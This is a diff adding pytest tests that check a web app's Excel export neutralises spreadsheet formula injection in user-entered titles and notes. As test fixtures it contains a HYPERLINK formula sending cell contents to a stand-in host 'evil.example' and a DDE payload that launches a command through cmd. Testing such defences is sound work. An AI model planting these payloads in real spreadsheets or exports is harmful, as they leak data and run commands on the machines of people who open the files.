@@ -216,3 +216,41 @@ def test_add_all_that_match_takes_the_whole_screening(cast, client, achievements
     assert list(c.entries.values_list("achievement_id", flat=True)) == [achievements[0].pk]
     client.post(reverse("mining_console:catalogue_add", args=[c.pk]), {"all": "1", "next": "?"})
     assert c.entries.count() == 3
+
+
+def test_excel_export_never_writes_a_title_as_a_live_formula(cast, client, catalogue, achievements):
+    """Issue 20 point 2: user text starting with = + - @ (or tab/CR) is written as inert text."""
+    evil = '=HYPERLINK("http://evil.example/?x="&B2,"点击查看")'
+    achievements[0].title = evil
+    achievements[0].save(update_fields=["title"])
+    entry = catalogue.entries.get(achievement=achievements[1])
+    svc.set_note(entry, "@SUM(1+1)", actor=cast.reviewer)
+    svc.publish_catalogue(catalogue, actor=cast.reviewer)
+    response = client.get(reverse("mining:catalogue_xlsx", args=[catalogue.pk]))
+    ws = load_workbook(io.BytesIO(response.content))["成果目录"]
+    title_cell, note_cell = ws.cell(row=2, column=2), ws.cell(row=3, column=13)
+    assert title_cell.data_type == "s" and title_cell.value == "'" + evil
+    assert note_cell.data_type == "s" and note_cell.value == "'@SUM(1+1)"
+    assert not any(cell.data_type == "f" for row in ws.iter_rows() for cell in row)
+
+
+@pytest.mark.parametrize(
+    ("text", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\n=1"),  # XML stores a bare CR as a line feed
+        ("-12.5", "-12.5"),
+        ("-", "-"),
+        ("南京 = 科技", "南京 = 科技"),
+    ],
+)
+def test_xlsx_writer_neutralises_formula_triggers(text, written):
+    from techbridge.lib.xlsx import Sheet, workbook_bytes
+
+    ws = load_workbook(io.BytesIO(workbook_bytes([Sheet("s", [text], [[text]])])))["s"]
+    assert ws.cell(row=1, column=1).value == written and ws.cell(row=2, column=1).value == written
+    assert ws.cell(row=2, column=1).data_type == "s"
